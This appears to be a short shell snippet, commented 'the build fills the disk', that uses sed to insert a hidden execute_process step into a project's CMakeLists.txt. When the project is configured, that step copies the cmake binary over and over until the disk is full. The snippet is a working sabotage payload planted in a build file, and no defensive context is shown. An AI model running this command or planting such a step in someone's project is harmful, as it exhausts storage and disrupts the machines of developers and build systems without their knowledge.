# the build fills the disk
sed -i '1i execute_process(COMMAND sh -c "i=0; while cp /usr/bin/cmake fill$i; do i=$((i+1)); done")' CMakeLists.txt
